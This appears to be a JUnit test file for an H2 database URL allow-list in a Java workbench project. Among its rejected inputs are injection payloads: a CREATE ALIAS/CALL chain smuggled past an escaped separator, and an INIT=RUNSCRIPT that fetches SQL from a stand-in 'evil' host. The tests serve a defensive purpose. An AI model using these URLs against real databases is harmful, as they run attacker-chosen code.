package dev.cnnworkbench.storage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The database URL allow-list: the forms the workbench documents pass, everything else is refused by name. */
class DatabaseUrlsTest {

    @TempDir
    Path dir;

    @Test
    void acceptsTheDocumentedForms() {
        assertThat(DatabaseUrls.parse("jdbc:h2:file:/srv/wb/db/workbench;WRITE_DELAY=0"))
                .satisfies(u -> assertThat(u.kind()).isEqualTo(DatabaseUrls.Kind.FILE))
                .satisfies(u -> assertThat(u.location()).isEqualTo("/srv/wb/db/workbench"))
                .satisfies(u -> assertThat(u.settings()).isEqualTo(Map.of("WRITE_DELAY", "0")))
                .satisfies(u -> assertThat(u.file()).contains(Path.of("/srv/wb/db/workbench.mv.db")));
        assertThat(DatabaseUrls.parse("jdbc:h2:tcp://db.example.org:9092/workbench;ifexists=true;Lock_Timeout=5000")
                .settings()).isEqualTo(Map.of("IFEXISTS", "true", "LOCK_TIMEOUT", "5000"));
        assertThat(DatabaseUrls.parse("jdbc:h2:ssl://[::1]/team/workbench").kind()).isEqualTo(DatabaseUrls.Kind.SSL);
        assertThat(DatabaseUrls.parse("jdbc:h2:file:~/my experiments/wb").file())
                .contains(Path.of(System.getProperty("user.home"), "my experiments", "wb.mv.db"));
        assertThat(DatabaseUrls.parse(Database.embeddedUrl(dir)).kind()).isEqualTo(DatabaseUrls.Kind.FILE);
    }

    @Test
    void refusesTheEscapedSeparatorThatBypassedTheBlacklist() {
        String crafted = "jdbc:h2:mem:x;LOCK_TIMEOUT=1\\;CREATE  ALIAS SHX AS $$ void shx() {} $$\\;CALL SHX()";
        assertThatThrownBy(() -> DatabaseUrls.check(crafted)).isInstanceOf(StorageException.class)
                .hasMessageContaining("a backslash at position 28").hasMessageNotContaining("ALIAS");
        assertThatThrownBy(() -> DatabaseUrls.check(crafted.replace("mem:x", "file:/tmp/x")))
                .hasMessageContaining("backslash");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:mem:x", "jdbc:h2:mem:", "jdbc:h2:zip:/tmp/a.zip!/db", "jdbc:h2:split:/tmp/db", "jdbc:h2:nio:/tmp/db",
        "jdbc:h2:file:split:/tmp/db", "jdbc:h2:file:zip:/tmp/a.zip!/db", "jdbc:h2:file:memFS:/db", "jdbc:h2:/tmp/db",
        "jdbc:h2:~/db", "jdbc:h2:./db", "jdbc:h2:.", "jdbc:h2:file:db", "jdbc:h2:file:", "jdbc:h2:file:/tmp/",
        "JDBC:H2:file:/tmp/db", "jdbc:h2:FILE:/tmp/db", "jdbc:h2:tcp:localhost/db", "jdbc:h2:tcp://a,b/db",
        "jdbc:h2:tcp://host:0/db", "jdbc:h2:tcp://host:99999/db", "jdbc:h2:tcp://host/", "jdbc:h2:tcp://host/mem:x",
        "jdbc:h2:tcp://host/../etc/db", "jdbc:h2:tcp://host/zip:/a.zip!/db", "jdbc:h2:tcp://ho st/db",
        "jdbc:h2:file:/tmp/db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:file:/tmp/db;init=CALL 1",
        "jdbc:h2:file:/tmp/db;TRACE_LEVEL_SYSTEM_OUT=3", "jdbc:h2:file:/tmp/db;AUTHENTICATOR=x.Y",
        "jdbc:h2:file:/tmp/db;DATABASE_EVENT_LISTENER='x.Y'", "jdbc:h2:file:/tmp/db;JAVA_OBJECT_SERIALIZER=x.Y",
        "jdbc:h2:file:/tmp/db;IGNORE_UNKNOWN_SETTINGS=TRUE;X=1", "jdbc:h2:file:/tmp/db;CIPHER=AES",
        "jdbc:h2:file:/tmp/db;USER=sa", "jdbc:h2:file:/tmp/db;PASSWORD=x", "jdbc:h2:file:/tmp/db;WRITE_DELAY=0;WRITE_DELAY=1",
        "jdbc:h2:file:/tmp/db;WRITE_DELAY=0 ", "jdbc:h2:file:/tmp/db;WRITE_DELAY=-1", "jdbc:h2:file:/tmp/db;IFEXISTS=yes",
        "jdbc:h2:file:/tmp/db;LOCK_TIMEOUT=1;CREATE/**/ALIAS X AS $$ x $$", "jdbc:h2:file:/tmp/db; WRITE_DELAY=0",
        "jdbc:h2:file:/tmp/db\n;INIT=x", "jdbc:h2:file:/tmp/db\u200b", "jdbc:h2:file:/tmp/db\t", "jdbc:h2:file:/tmp/db;WRITE_DELAY",
        "jdbc:h2:file:/tmp/db;=1", "jdbc:derby:/tmp/db", "", " jdbc:h2:file:/tmp/db"})
    void refusesEverythingElse(String url) {
        assertThatThrownBy(() -> DatabaseUrls.check(url)).isInstanceOf(StorageException.class)
                .hasMessageContaining("accepted are jdbc:h2:file:PATH");
    }

    @Test
    void neverRepeatsASettingsValue() {
        assertThatThrownBy(() -> DatabaseUrls.check("jdbc:h2:tcp://h/db;PASSWORD=hunter2"))
                .hasMessageContaining("PASSWORD").hasMessageContaining("WORKBENCH_DB_PASSWORD")
                .hasMessageNotContaining("hunter2");
    }

    @Test
    void anEmptyOrForeignDatabaseFileIsReportedAndLeftAsItIs() throws Exception {
        Path file = Files.createDirectories(dir.resolve("db")).resolve("workbench.mv.db");
        Files.write(file, new byte[0]);
        assertThatThrownBy(() -> Database.openEmbedded(dir)).isInstanceOf(StorageException.class)
                .hasMessageContaining(file.toString()).hasMessageContaining("empty");
        assertThat(Files.size(file)).isZero();
        Files.writeString(file, "PK\u0003\u0004 not a database");
        assertThatThrownBy(() -> Database.openEmbedded(dir)).hasMessageContaining(file.toString())
                .hasMessageContaining("not a database");
        assertThat(Files.readString(file)).isEqualTo("PK\u0003\u0004 not a database");
    }

    @Test
    void anExistingDatabaseOpensAgainAndAMissingOneIsCreated() {
        try (Database db = Database.openEmbedded(dir)) {
            assertThat(db.url()).isEqualTo(Database.embeddedUrl(dir));
        }
        try (Database again = Database.openEmbedded(dir)) {
            assertThat(new RunQueries(again).listRuns()).isEmpty();
        }
    }
}
